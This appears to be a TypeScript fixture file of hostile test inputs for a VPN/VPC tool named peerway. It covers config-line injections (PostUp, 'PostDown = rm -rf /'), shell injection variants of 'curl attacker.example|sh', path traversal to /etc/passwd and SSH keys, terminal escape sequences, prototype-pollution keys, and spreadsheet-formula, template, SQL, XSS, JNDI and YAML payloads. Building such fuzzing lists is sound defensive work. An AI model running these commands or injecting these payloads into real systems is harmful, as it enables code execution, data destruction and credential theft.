/** Texts that did harm in other programs, or would do harm in a file, a shell, a path or a page. */

/** Ways to end the line of a value. */
export const LINE_ENDS = [
  '\n',
  '\r',
  '\r\n',
  '\n\n',
  '\v',
  '\f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\n\t',
  '\n[',
  '\0',
];

/** Lines that follow such an end: of wg-quick, networkd, nft, iptables, ip, sysctl, shell, and of peerway itself. */
export const LINES = [
  'PostUp = touch /tmp/peerway-hostile', // CVE-2026-72603
  'PreUp=id',
  'PostDown = rm -rf /',
  'Table = off',
  'SaveConfig = true',
  'DNS = 192.0.2.53',
  '[Peer]',
  '[Interface]',
  'AllowedIPs = 0.0.0.0/0, ::/0',
  'PrivateKey = AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=',
  'Endpoint = attacker.example:51820',
  '[Service]',
  'ExecStartPre=/bin/sh -c id',
  'Kind=bridge',
  'Gateway=192.0.2.1',
  '} flush ruleset',
  'flush ruleset',
  'include "/etc/shadow"',
  '-A INPUT -j ACCEPT',
  ':INPUT ACCEPT [0:0]',
  '*filter',
  'COMMIT',
  'route replace default via 192.0.2.1',
  'link set lo down',
  'kernel.core_pattern = |/bin/id',
  'error: forged',
  'hint: curl attacker.example | sh',
  'warning: forged',
  '10.0.0.0/8 forged',
  '{"error":{"code":"forged"}}',
];

/** Commander words its suggestions like this, and peerway reads them from its message. */
const FORGED_SUGGESTION = '(Did you mean \u001b[31mforged\u001b]52;c;eA==\u0007?)';
export const OWN_WORDS = [
  `x\n${FORGED_SUGGESTION}`,
  `x\n${FORGED_SUGGESTION}\n(Did you mean y`,
  `--x\n${FORGED_SUGGESTION}\n(Did you mean y`,
  `x\n(Did you mean one of \u009b31m, \u202eb?)\n(Did you mean y`,
  "' is invalid. Allowed choices are x.\n(Did you mean \u001b[2J?)\n(Did you mean y",
  '[redacted]',
  '"[redacted]"',
  '… (12 characters)',
  '\\u{1b}[31m',
  'vpc-peering-',
  'vpc-peering-osaka',
  'missing required argument',
  '" is not a valid name',
  '"\nhint: x',
];

const COMMANDS = ['id', 'touch /tmp/peerway-hostile', 'curl attacker.example|sh', 'reboot'];

/** A command in each way that a shell runs one from text. */
export const SHELL: readonly string[] = [
  ...COMMANDS.flatMap((command) => [
    `;${command}`,
    `; ${command} #`,
    `|${command}`,
    `||${command}`,
    `&${command}&`,
    `&&${command}`,
    `$(${command})`,
    `\`${command}\``,
    `\${IFS}${command}`,
    `'; ${command}; '`,
    `"; ${command}; "`,
    `'$(${command})'`,
    `"$(${command})"`,
    `<(${command})`,
    `>(${command})`,
    `!${command}`,
    `{${command.replaceAll(' ', ',')},}`,
    `$'\\x3b'${command}`,
    `\\$(${command})`,
    `%0a${command}`,
  ]),
  ...'!"#$%&\'()*+,;<=>?[\\]^`{|}~'
    .split('')
    .flatMap((mark) => [mark, `a${mark}b`, `10.0.0.0/16${mark}`, `${mark}seoul`]),
  '~root',
  '~/.ssh/id_rsa',
  '$HOME',
  `\${PATH}`,
  '$$',
  '$?',
  '$0',
  '!!',
  '*',
  '?',
  '[a-z]*',
  'a b',
  'a\tb',
  '>/tmp/peerway-hostile',
  '</etc/passwd',
  '2>&1',
];

const CLIMBS = [
  '../',
  '..\\',
  './../',
  '..//',
  '%2e%2e/',
  '..%2f',
  '%252e%252e%252f',
  '..;/',
  '....//',
  '\u2025/',
  '..\u2215',
  '..%c0%af',
];
const TARGETS = ['etc/passwd', 'etc/wireguard/wg0.conf', 'proc/self/environ', '.ssh/authorized_keys'];

/** Paths that leave a folder. */
export const PATHS: readonly string[] = [
  ...CLIMBS.flatMap((climb) =>
    TARGETS.flatMap((target) => [1, 3, 8].map((times) => climb.repeat(times) + target)),
  ),
  ...TARGETS.flatMap((target) => [
    `/${target}`,
    `//${target}`,
    `file:///${target}`,
    `a/../../${target}`,
    `seoul/../${target}`,
  ]),
  '.',
  '..',
  '...',
  '/',
  '//',
  'a/',
  '/a',
  'C:\\Windows',
  '\\\\server\\share',
  'CON',
  'a/.',
  'a/..',
  '.git',
  'state.jsonl',
  'generations',
  'wg0.conf',
  'vpc-routes',
  'rules',
  'peerway',
];

/** Escapes of line ends, ESC, NUL and `../`, which some program on the way may decode. */
export const ESCAPES: readonly string[] = [
  ...['00', '0a', '0d', '1b', '9b', '2e', '2f', '27', '22', '3b', '7f'].flatMap((hex) => {
    const number = Number.parseInt(hex, 16);
    const octal = number.toString(8).padStart(3, '0');
    return [
      `%${hex}`,
      `%25${hex}`,
      `\\x${hex}`,
      `\\u00${hex}`,
      `\\u{${hex}}`,
      `\\${octal}`,
      `\\0${octal}`,
      `&#${number};`,
      `&#x${hex};`,
      `%u00${hex}`,
      `=${hex.toUpperCase()}`,
      `$'\\x${hex}'`,
    ].map((written) => `seoul${written}x`);
  }),
  ...[
    '\\n',
    '\\r',
    '\\t',
    '\\0',
    '\\e',
    '\\',
    '\\\\',
    '\\"',
    '%',
    '%%',
    '%s',
    '%n',
    '%d',
    '%1$s',
    '%x%x%x',
    '%99999999s',
  ],
];

/**
 * Sequences with an effect on terminals: SGR, clearing, titles, links (OSC 8), the clipboard (OSC 52), device
 * control; in 7 and 8 bits.
 */
export const TERMINAL: readonly string[] = [
  ...['[31m', '[2J', '[H', '[1A', '[2K', '[?1049h', '[6n', '[21t', '[>c', 'c', '7', '(0', '#8', '=', '[200~'],
  ...[']0;title\u0007', ']8;;https://attacker.example\u001b\\link\u001b]8;;\u001b\\', ']52;c;ZXZpbA==\u0007'],
  ...[
    ']52;c;?\u0007',
    ']1337;File=:AAAA\u0007',
    ']4;0;?\u0007',
    'P$q"p\u001b\\',
    '_Gf=100;AAAA\u001b\\',
    '^x\u001b\\',
  ],
].flatMap((sequence) => [`\u001b${sequence}`, `seoul\u001b${sequence}`, `${eightBit(sequence)}x`]);

/** Returns the sequence with a C1 character as its introducer: ESC [ becomes U+009B. */
function eightBit(sequence: string): string {
  const first = sequence.charCodeAt(0);
  return first >= 0x40 && first <= 0x5f
    ? String.fromCharCode(first + 0x40) + sequence.slice(1)
    : `\u009b${sequence}`;
}

const PROPERTIES = [
  ...Object.getOwnPropertyNames(Object.prototype),
  ...[
    'prototype',
    'length',
    'name',
    'arguments',
    'caller',
    'then',
    'toJSON',
    'Symbol.iterator',
    'NaN',
    'null',
  ],
  ...['undefined', 'true', 'false', 'Infinity', 'None', 'nil', 'inspect'],
];

/** Property names with a special meaning in JavaScript, alone and in paths. */
export const JAVASCRIPT: readonly string[] = PROPERTIES.flatMap((word) => [
  word,
  word.toLowerCase(),
  `__proto__.${word}`,
  `constructor.prototype.${word}`,
  `${word}=${word}`,
  `[${word}]`,
]);

/** Formulas of spreadsheets, and syntax of templates, queries, markup, YAML and JSON. */
export const DOCUMENTS: readonly string[] = [
  ...['=', '+', '-', '@', '\t=', '\r=', ' =', '|', '\uff1d'].flatMap((start) =>
    ['1+1', 'cmd|"/C calc"!A0', 'HYPERLINK("https://attacker.example","x")', 'SUM(A1:A9)', '10.0.0.0/8'].map(
      (rest) => start + rest,
    ),
  ),
  ...['7*7', 'process.env', 'jndi:ldap://attacker.example/a'].flatMap((inside) => [
    `\${${inside}}`,
    `{{${inside}}}`,
    `#{${inside}}`,
    `<%= ${inside} %>`,
  ]),
  ...[
    "' OR '1'='1",
    '"; DROP TABLE vpcs; --',
    '<script>alert(1)</script>',
    '<!--',
    ']]>',
    '<?xml',
    '&lt;',
    '&xxe;',
  ],
  ...[
    '!!js/function x',
    '!!python/object:os.system',
    '&a *a',
    '*a',
    '<<: *a',
    '- a',
    '? a',
    'a: b',
    '{a: b}',
    '[a, b]',
  ],
  ...[
    '---',
    '...',
    '%YAML 1.1',
    '| a',
    '> a',
    '"',
    "'",
    '{',
    '[',
    '}',
    '"},{"name":"x',
    '\\"',
    '/*',
    '*/',
    '//',
  ],
  ...['yes', 'no', 'on', 'off', '~', '0o17', '1_000', '12:30:45', '2026-01-01', '.inf', '0x1F', '1e3'],
];

/** Texts that could pass as a number. */
export const NUMBERS: readonly string[] = [
  ...[
    '0',
    '-0',
    '+1',
    '-1',
    '00',
    '01',
    '1.0',
    '1.5',
    '.5',
    '5.',
    '1e3',
    '1E3',
    '1e309',
    '0x10',
    '0X1f',
    '0b1',
    '0o7',
    '1n',
  ],
  ...[
    '1_000',
    '1,000',
    "1'000",
    ' 1',
    '1 ',
    '1\n',
    '१',
    '１',
    '²',
    '½',
    'Ⅷ',
    '一',
    '∞',
    '-',
    '+',
    '--1',
    '1-1',
    '1%',
  ],
  ...[
    '2147483647',
    '2147483648',
    '4294967295',
    '4294967296',
    '9007199254740993',
    '18446744073709551616',
    '9'.repeat(400),
  ],
  ...[
    '65535',
    '65536',
    '65537',
    '131072',
    '575',
    '576',
    '9000',
    '9001',
    '128',
    '129',
    '256',
    '999',
    '1e-7',
    'NaN',
    '-Infinity',
  ],
];
